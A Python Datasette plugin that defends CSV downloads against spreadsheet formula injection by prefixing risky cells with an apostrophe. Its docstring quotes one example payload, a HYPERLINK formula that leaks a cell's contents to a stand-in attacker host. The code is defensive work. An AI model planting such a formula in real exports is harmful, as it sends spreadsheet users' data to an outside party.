"""CSV downloads neutralise cells a spreadsheet would run as a formula; JSON, SQL and the database keep raw values.

A title such as =HYPERLINK("http://evil.example/?leak="&A1, "Click") runs when
a reader opens the CSV in a spreadsheet. The usual rule: a text cell starting
with =, +, -, @, tab or carriage return gets a leading apostrophe. Plain
numbers (-3, -0.5) are left alone. Datasette writes a CSV one row per body
message, so each message that may hold such a cell is parsed and written back.
"""
import csv
import io
import re
from collections.abc import Callable

from datasette import hookimpl

from newsclaims.site import App, Message, Receive, Scope, Send

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?\Z")
MAYBE_FORMULA = re.compile(r'(?:^|[,\n])"?[=+\-@\t\r]')  # a cell that may start with one of FORMULA_STARTS


def neutralised(cell: str) -> str:
    if cell.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.match(cell):
        return "'" + cell
    return cell


def neutralised_csv(text: str) -> str:
    if not MAYBE_FORMULA.search(text):
        return text  # most rows: nothing to rewrite, so no parsing
    out = io.StringIO()
    writer = csv.writer(out)
    for row in csv.reader(io.StringIO(text, newline="")):
        writer.writerow([neutralised(cell) for cell in row])
    return out.getvalue()


@hookimpl
def asgi_wrapper() -> Callable[[App], App]:
    def wrap(app: App) -> App:
        async def csv_downloads(scope: Scope, receive: Receive, send: Send) -> None:
            if scope["type"] != "http" or not scope["path"].endswith(".csv"):
                return await app(scope, receive, send)
            if b"_stream=" in scope.get("query_string", b"") and b"_size=" not in scope["query_string"]:
                # Datasette 0.65 streams a table 50 rows a query; max_returned_rows a query is ten times cheaper.
                scope = {**scope, "query_string": scope["query_string"] + b"&_size=max"}

            async def send_neutralised(message: Message) -> None:
                if message["type"] == "http.response.body" and message.get("body"):
                    body = neutralised_csv(message["body"].decode("utf-8")).encode("utf-8")
                    message = {**message, "body": body}
                await send(message)

            await app(scope, receive, send_neutralised)

        return csv_downloads

    return wrap
